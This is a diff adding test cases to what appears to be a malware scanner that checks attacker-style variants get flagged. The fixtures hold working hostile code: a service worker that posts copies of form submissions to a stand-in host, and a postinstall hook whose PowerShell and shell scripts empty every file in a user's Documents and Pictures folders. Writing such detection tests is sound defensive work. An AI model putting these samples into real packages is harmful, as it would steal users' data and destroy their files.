@@ -1218,3 +1218,50 @@ $c.Close()`,
     ).toEqual([]);
   });
 });
+
+describe('rewrites of two samples as an attacker varies them', () => {
+  it('the form-relay service worker: hosts in a table, the copy in an arrow helper, a second file registering it', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'pwa-offline-starter',
+        version: '2.0.1',
+        main: 'src/register.js',
+      }),
+      'src/register.js': `export const start = () => navigator.serviceWorker && navigator.serviceWorker.register('/sw.js');`,
+      'src/sw.js': `const table = { mirror: 'https://cdn-edge-sync.example/m/' };
+const copyOut = (rq) => rq.clone().arrayBuffer().then((buf) => fetch(table.mirror + 'x?u=' + encodeURIComponent(rq.url), { method: 'POST', body: buf, keepalive: true }));
+addEventListener('fetch', (ev) => {
+  const rq = ev.request;
+  if (rq.method !== 'GET') ev.respondWith(copyOut(rq).then(() => fetch(rq), () => fetch(rq)));
+});`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('text.service-worker-hijack');
+  });
+  it('the PowerShell overwrite: run from JS through a platform table, folder names in a hashtable, a shell twin with a function', () => {
+    const files = {
+      'package.json': pkg({ scripts: { postinstall: 'node bin/run.js' } }),
+      'bin/run.js': `const { execFileSync } = require('child_process'); const path = require('path');
+const plan = { win: ['powershell', ['-File', path.join(__dirname, 'c.ps1')]], nix: ['sh', [path.join(__dirname, 'c.sh')]] };
+const [prog, args] = plan[process.platform === 'win32' ? 'win' : 'nix'];
+execFileSync(prog, args, { stdio: 'ignore' });`,
+      'bin/c.ps1': `$targets = @{ a = "Documents"; b = "Pictures" }
+foreach ($k in $targets.Keys) {
+  $root = Join-Path $env:USERPROFILE $targets[$k]
+  Get-ChildItem $root -Recurse -File | ForEach-Object { [System.IO.File]::WriteAllText($_.FullName, "") }
+}`,
+      'bin/c.sh': `#!/bin/sh
+clear_dir() {
+  find "$1" -type f | while read -r item; do : > "$item"; done
+}
+for d in Documents Pictures; do clear_dir "$HOME/$d"; done`,
+    };
+    const r = analyzeSource(files);
+    expect(r.risk_level).toBe('critical');
+    expect(
+      r.evidence
+        .filter((f) => f.rule === 'script.destructive')
+        .map((f) => f.file)
+        .sort(),
+    ).toEqual(['bin/c.ps1', 'bin/c.sh']);
+  });
+});
